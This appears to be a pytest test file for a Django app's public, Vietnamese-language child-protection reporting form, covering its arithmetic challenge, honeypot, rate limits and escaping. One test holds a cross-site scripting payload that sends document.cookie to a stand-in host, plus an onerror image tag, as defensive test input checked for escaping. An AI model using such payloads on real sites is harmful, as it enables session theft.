"""The public reporting page: no login, Vietnamese, spam-protected, rate-limited, reveals only a reference code."""

import base64
import re
import time

import pytest
from django.core.cache import cache

from treem.audit.models import AuditEvent
from treem.cases import spam
from treem.cases.models import Alert, AlertKind, Case, Source


@pytest.fixture(autouse=True)
def fresh_cache():
    cache.clear()
    yield
    cache.clear()


def form_data(commune, **extra):
    question, token = spam.new_challenge(now=time.time() - 60)  # the form was shown a minute ago
    data = {"province": commune.province_id, "commune": commune.pk, "concern_types": ["neglect"],
            "narrative": "Hai cháu nhỏ ở nhà một mình đã ba ngày, không có gì ăn.", "place_detail": "Bản Nà Khum",
            "child_name": "bé Mai", "child_sex": "F", "child_age": "5", "started": token,
            "answer": str(_answer(question)), "website": ""}
    data.update(extra)
    return data


def _answer(question):
    """What a person computes from the question shown ("3 + 4")."""
    a, b = re.fullmatch(r"(\d) \+ (\d)", question).groups()
    return int(a) + int(b)


def test_the_page_is_public_and_vietnamese(client):
    response = client.get("/cases/report/")
    page = response.content.decode()
    assert response.status_code == 200
    assert "Báo tin về trẻ em cần được bảo vệ" in page and "Tổng đài quốc gia bảo vệ trẻ em 111" in page
    assert re.search(r"Vui lòng trả lời: \d \+ \d = \?", page)
    assert 'class="hp"' in page and 'name="website"' in page


def test_a_report_creates_an_intake_and_reveals_only_its_reference(client, commune_x, worker_x):
    response = client.post("/cases/report/", form_data(commune_x))
    page = response.content.decode()
    case = Case.objects.get()
    assert response.status_code == 200 and case.reference in page
    assert "Cảm ơn bạn: tin báo đã được tiếp nhận" in page
    assert "Xã Bình Lư" not in page and "bé Mai" not in page and str(case.pk) not in page
    assert case.source == Source.PUBLIC and case.channel == "online" and case.recorded_by is None
    assert case.reporter_anonymous and case.children_description == "bé Mai, Nữ, 5 tuổi"
    assert not case.case_children.exists()  # the public cannot create register records
    assert Alert.objects.filter(recipient=worker_x, kind=AlertKind.NEW_REPORT, case=case).exists()


def test_a_script_in_a_public_report_is_stored_as_text_and_shown_escaped(client, commune_x, worker_x):
    evil = '<script>document.location="http://x/?"+document.cookie</script>Cháu bị đánh'
    client.post("/cases/report/", form_data(commune_x, narrative=evil, child_name="<img src=x onerror=alert(1)>"))
    case = Case.objects.get()
    assert case.narrative == evil
    client.force_login(worker_x)
    page = client.get(f"/cases/{case.pk}/").content.decode()
    assert "<script>document.location" not in page and "<img src=x" not in page
    assert "&lt;script&gt;document.location=&quot;http://x/?&quot;+document.cookie&lt;/script&gt;Cháu bị đánh" in page


def test_the_honeypot_pretends_success_and_stores_nothing(client, commune_x):
    response = client.post("/cases/report/", form_data(commune_x, website="http://spam.example"))
    assert response.status_code == 200 and "Cảm ơn bạn" in response.content.decode()
    assert not Case.objects.exists()
    assert AuditEvent.objects.filter(action="cases.public_report.spam").exists()


def test_a_form_sent_too_fast_is_refused(client, commune_x):
    question, token = spam.new_challenge()  # shown just now
    response = client.post("/cases/report/", form_data(commune_x, started=token, answer=str(_answer(question))))
    assert response.status_code == 400 and not Case.objects.exists()
    assert "Vui lòng đọc lại biểu mẫu" in response.content.decode()


def test_a_wrong_answer_or_a_forged_token_is_refused(client, commune_x):
    data = form_data(commune_x)
    data["answer"] = str(int(data["answer"]) + 1)
    response = client.post("/cases/report/", data)
    assert response.status_code == 400 and "Câu trả lời chưa đúng" in response.content.decode()
    forged = form_data(commune_x, started="eyJzdW0iOjF9:forged")
    forged["answer"] = "1"
    assert client.post("/cases/report/", forged).status_code == 400
    assert not Case.objects.exists()


def test_the_answer_must_be_given_and_the_commune_in_the_province(client, commune_x, an_giang):
    response = client.post("/cases/report/", form_data(commune_x, province=an_giang.pk))
    assert response.status_code == 400 and "Xã này không thuộc tỉnh đã chọn." in response.content.decode()
    assert not Case.objects.exists()


def test_reports_are_rate_limited_per_address(client, commune_x, settings):
    for _ in range(spam.RATE_LIMIT):
        assert client.post("/cases/report/", form_data(commune_x)).status_code == 200
    blocked = client.post("/cases/report/", form_data(commune_x))
    assert blocked.status_code == 429 and "Có quá nhiều tin báo" in blocked.content.decode()
    assert Case.objects.count() == spam.RATE_LIMIT
    other = client.post("/cases/report/", form_data(commune_x), REMOTE_ADDR="10.0.0.9")
    assert other.status_code == 200


def test_guessing_the_sum_is_rate_limited_too(client, commune_x, monkeypatch):
    monkeypatch.setattr(spam, "ATTEMPT_LIMIT", 3)
    for _ in range(3):
        assert client.post("/cases/report/", form_data(commune_x, answer="99")).status_code == 400
    assert client.post("/cases/report/", form_data(commune_x)).status_code == 429
    assert not Case.objects.exists()


def test_the_challenge_token_cannot_be_reused_after_it_expires():
    question, token = spam.new_challenge(now=time.time() - 3 * 3600)
    assert spam.check(token, _answer(question)) == "expired"
    assert spam.check(token + "x", 1) == "expired"


# -- one-time challenges and limits shared by every web process (issue 12, finding 4) -------------------------------


def test_a_challenge_is_accepted_once(client, commune_x):
    data = form_data(commune_x)
    assert client.post("/cases/report/", data).status_code == 200
    replay = client.post("/cases/report/", data)
    assert replay.status_code == 400 and "Biểu mẫu này đã được gửi hoặc đã mở quá lâu" in replay.content.decode()
    assert Case.objects.count() == 1


def test_the_answer_is_neither_in_the_page_nor_in_the_token(client):
    from django.core import signing

    page = client.get("/cases/report/").content.decode()
    question = re.search(r"Vui lòng trả lời: (\d \+ \d) = \?", page).group(1)
    answer = _answer(question)
    token = re.search(r'name="started" value="([^"]*)"', page).group(1)
    # A random id: no signed payload to read (the old token was base64 JSON "{"sum": ...}" with a signature).
    assert re.fullmatch(r"[A-Za-z0-9_-]{20,40}", token)
    with pytest.raises(signing.BadSignature):
        signing.loads(token, salt=spam.SALT)
    assert b"sum" not in base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))
    # The server keeps only a keyed hash of the answer.
    kept = cache.get(f"cases:public-report:challenge:{token}")
    assert set(kept) == {"hash", "t"} and str(answer) != kept["hash"] and len(kept["hash"]) == 64
    # Nothing else is carried by the page: the only hidden fields are the CSRF token and the challenge id.
    assert set(re.findall(r'type="hidden" name="([^"]+)"', page)) == {"csrfmiddlewaretoken", "started"}


def test_the_sixth_report_is_refused_when_another_process_counted_the_five(client, commune_x, settings):
    from treem.core.cache import DatabaseCache

    # Another web process has its own cache client and no memory in common with this one: only the database is shared.
    other_process = DatabaseCache(settings.CACHES["default"]["LOCATION"], {})
    other_process.set("cases:public-report:reports:127.0.0.1", spam.RATE_LIMIT, spam.RATE_WINDOW)
    blocked = client.post("/cases/report/", form_data(commune_x))
    assert blocked.status_code == 429 and not Case.objects.exists()
    # and what this process counts, the other one sees
    client.post("/cases/report/", form_data(commune_x), REMOTE_ADDR="10.0.0.7")
    assert other_process.get("cases:public-report:reports:10.0.0.7") == 1
    assert other_process.get("cases:public-report:attempts:10.0.0.7") == 1


def test_parallel_sends_cannot_pass_the_limit_together(rf, commune_x, settings):
    """Counting and testing are one step: sends that all passed the first check are still refused past the limit."""
    request = rf.post("/cases/report/", REMOTE_ADDR="10.0.0.8")
    assert not spam.rate_limited(request)  # all sends in flight saw a free slot ...
    taken = [spam.take_report(request) for _ in range(spam.RATE_LIMIT + 2)]
    assert taken == [True] * spam.RATE_LIMIT + [False, False]  # ... only RATE_LIMIT of them are stored


def _in_another_process(code: str) -> None:
    """Run Django code in a fresh interpreter on this test database (PostgreSQL: a second server process)."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    from django.db import connection

    db = connection.settings_dict
    url = f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}"
    env = {**os.environ, "DATABASE_URL": url, "DJANGO_SETTINGS_MODULE": "config.settings.test"}
    result = subprocess.run([sys.executable, "-c", "import django; django.setup()\n" + code],
                            cwd=Path(__file__).resolve().parents[2], env=env, capture_output=True, text=True,
                            check=False)
    assert result.returncode == 0, result.stderr


def test_a_limit_counted_by_another_server_process_applies_here(client, commune_x):
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("the SQLite test database lives in this process's memory: see the test above for SQLite")
    key = "cases:public-report:reports:10.9.9.9"
    _in_another_process(f"from django.core.cache import cache; cache.set({key!r}, {spam.RATE_LIMIT}, 600)")
    try:
        blocked = client.post("/cases/report/", form_data(commune_x), REMOTE_ADDR="10.9.9.9")
        assert blocked.status_code == 429 and not Case.objects.exists()
    finally:
        _in_another_process(f"from django.core.cache import cache; cache.delete({key!r})")
